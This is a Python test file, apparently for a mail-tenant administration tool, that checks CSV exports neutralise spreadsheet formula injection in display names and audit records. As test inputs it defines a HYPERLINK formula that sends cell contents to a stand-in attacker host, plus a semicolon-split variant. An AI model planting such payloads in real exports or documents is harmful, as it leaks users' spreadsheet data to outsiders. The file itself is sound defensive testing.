"""Hole 9: a display name such as '=HYPERLINK(...)' never lands as a live formula in a CSV export, nor
does 'Chris;=HYPERLINK(...)' in a spreadsheet whose list separator is ';' (it splits the cell there)."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailwarden.audit import VerifyingKey, read_records, verify_chain
from mailwarden.csv_cells import neutralise, restore
from mailwarden.emulator.state import TenantData, TenantState
from mailwarden.settings import load_settings
from mailwarden.testing import RunningEmulator
from mailwarden.workspace import Workspace
from tests.api.served import ServedApp, served_app
from tests.cli.conftest import Cli

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
# A display name a ';'-locale spreadsheet splits into 'Chris' and a live formula.
SPLIT = 'Chris;=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _live_formulas(text: str) -> list[str]:
    """Every cell, or part of a cell split at a separator (',' ';' tab, as a spreadsheet of another locale
    splits it), of a CSV text that a spreadsheet would run as a formula."""
    parts = [part for cell in _cells(text) for part in [cell, *re.split(r"[,;\t]", cell)[1:]]]
    return [part for part in parts if part.lstrip(" ").startswith(_FORMULA_START)]


def _split_shown_as_text(text: str) -> bool:
    """Whether the split-hostile name is in the CSV with its formula part quoted."""
    return any("Chris;'=HYPERLINK(" in cell for cell in _cells(text))


def _shown_as_text(text: str) -> bool:
    """Whether the hostile name is in the CSV as a quoted (text) cell."""
    return any(cell.startswith("'" + HOSTILE) for cell in _cells(text))


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1 555 0100", "'+1 555 0100"),  # a phone number is quoted too, as OWASP accepts
        ("-5", "'-5"),  # and so is a negative number
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t'=1+1"),  # a tab is a separator too
        ("\r=1+1", "'\r=1+1"),
        ("'quoted", "''quoted"),  # one more quote, so reading back is exact
        ("Chris Lee", "Chris Lee"),
        ("a=b", "a=b"),
        ("", ""),
        (SPLIT, "Chris;'" + SPLIT.removeprefix("Chris;")),
        ("x,=1", "x,'=1"),
        ("x;+1", "x;'+1"),
        ("x\t@SUM(A1)", "x\t'@SUM(A1)"),
        ("x;  -1", "x;'  -1"),  # an import that trims spaces would still run it
        ("x;'a", "x;''a"),  # one more quote after a separator, so reading back is exact
        ("a; b, c", "a; b, c"),  # a list stays as it was
        ("a;b=c", "a;b=c"),
    ],
)
def test_cells_that_start_a_formula_are_written_as_text(cell: str, written: str) -> None:
    """A cell starting with = + - @, tab or CR gets a quote in front; reading back gives the original."""
    assert neutralise(cell) == written
    assert restore(written) == cell


@given(st.text(alphabet=st.sampled_from("=+-@\t\r',; ax")))
def test_restore_gives_back_every_neutralised_cell(cell: str) -> None:
    """Whatever the cell, reading back what was written gives it back, and no part of it is live."""
    written = neutralise(cell)
    assert restore(written) == cell
    buffer = io.StringIO()
    csv.writer(buffer).writerow([written])
    assert _live_formulas(buffer.getvalue()) == []


def test_cli_audit_export_has_no_live_formula_and_still_verifies(tmp_path: Path) -> None:
    """An audit record naming '=HYPERLINK(...)' exports as text, and the export reads back and verifies."""
    cli = Cli(tmp_path / "home")
    workspace = Workspace.open(load_settings({"MAILWARDEN_HOME": str(cli.home)}))
    try:
        audit = workspace.audit
        audit.append(tenant="demo", event="policy.set", actor="@evil", target=HOSTILE, before=-5, after="+1")
        audit.append(tenant="demo", event="policy.set", actor="a;@evil", target=SPLIT, after=[1, -5])
        checkpoints = audit.checkpoints()
        key = VerifyingKey.from_pem(audit.public_key_pem())
    finally:
        workspace.close()
    code, out, err = cli("audit", "export", "--format", "csv")
    assert code == 0, err
    assert _live_formulas(out) == []
    assert _shown_as_text(out)
    assert _split_shown_as_text(out)
    records = list(read_records("csv", io.StringIO(out)))
    assert (records[-2].target, records[-2].actor, records[-2].before) == (HOSTILE, "@evil", -5)
    assert (records[-1].target, records[-1].actor, records[-1].after) == (SPLIT, "a;@evil", [1, -5])
    assert verify_chain(records, checkpoints, key).ok


def test_cli_reports_and_review_evidence_have_no_live_formula(tmp_path: Path) -> None:
    """Trustees renamed =HYPERLINK(...) and Tom;=HYPERLINK(...) in the tenant show as text in `report
    delegations` and `report access --format csv`, and in an access review's CSV evidence."""
    cli = Cli(tmp_path / "home")
    assert cli("view", "shared-mailboxes")[0] == 0  # the demo tenant's state now exists
    state_file = cli.home / "emulator" / "tenant.json"
    data = TenantData.model_validate_json(state_file.read_bytes())
    chris = next(r for r in data.recipients.values() if r.primary_smtp == "chris.lee@acme.com")
    chris.display_name = HOSTILE
    tom = next(r for r in data.recipients.values() if r.primary_smtp == "tom.becker@acme.com")
    tom.display_name = SPLIT
    state_file.write_text(data.model_dump_json())
    assert cli("tenant", "discover")[0] == 0
    for report in (("delegations", "--mailbox"), ("access", "--mailbox")):
        code, out, err = cli("report", *report, "support@acme.com", "--format", "csv")
        assert code == 0, err
        assert _shown_as_text(out), report
        assert _split_shown_as_text(out), report
        assert _live_formulas(out) == [], report
    admin = ("--as", "grace.hopper@acme.com")
    code, out, err = cli(
        "reviews", "start", "--name", "Q4", "--deadline", "14d", "--which", "chosen",
        "--resource", "support@acme.com", "--scope", "shared_mailboxes", "--json", *admin,
    )  # fmt: skip
    assert code == 0, err
    code, out, err = cli("reviews", "show", json.loads(out)["campaign_id"], "--evidence", "csv", *admin)
    assert code == 0, err
    assert _split_shown_as_text(out)  # Tom, a delegate of the support mailbox, is a row under review
    assert _live_formulas(out) == []


@pytest.fixture
def hostile_web(emulator: RunningEmulator, tenant: TenantState, tmp_path: Path) -> Iterator[ServedApp]:
    """The web app over a tenant where Chris Lee's display name is a formula."""
    with tenant.transaction():
        chris = next(r for r in tenant.data.recipients.values() if r.primary_smtp == "chris.lee@acme.com")
        chris.display_name = HOSTILE
        tom = next(r for r in tenant.data.recipients.values() if r.primary_smtp == "tom.becker@acme.com")
        tom.display_name = SPLIT
        tenant.reindex()
        tenant.mark_dirty()
    with served_app(emulator, tmp_path / "home") as served:
        yield served


def test_api_csv_downloads_have_no_live_formula(hostile_web: ServedApp) -> None:
    """The report, view and audit CSV downloads of the API and web app write the hostile names as text."""
    grace = hostile_web.sign_in("grace.hopper@acme.com")
    report = grace.get("/api/v1/reports/delegations", params={"mailbox": "support@acme.com", "format": "csv"})
    assert report.status_code == 200, report.text
    assert _shown_as_text(report.text)
    assert _split_shown_as_text(report.text)
    assert _live_formulas(report.text) == []
    access = grace.get("/api/v1/reports/access", params={"mailbox": "support@acme.com", "format": "csv"})
    assert access.status_code == 200, access.text
    assert _split_shown_as_text(access.text)
    assert _live_formulas(access.text) == []
    permissions = grace.get("/views/permissions.csv", params={"mailbox": "support@acme.com"})
    assert permissions.status_code == 200, permissions.text
    assert _split_shown_as_text(permissions.text)
    assert _live_formulas(permissions.text) == []
    hostile_web.workspace.audit.append(
        tenant="demo", event="policy.set", actor="grace.hopper@acme.com", target=HOSTILE
    )
    export = grace.get("/api/v1/audit/export", params={"format": "csv"})
    assert export.status_code == 200, export.text
    assert _shown_as_text(export.text)
    assert _live_formulas(export.text) == []
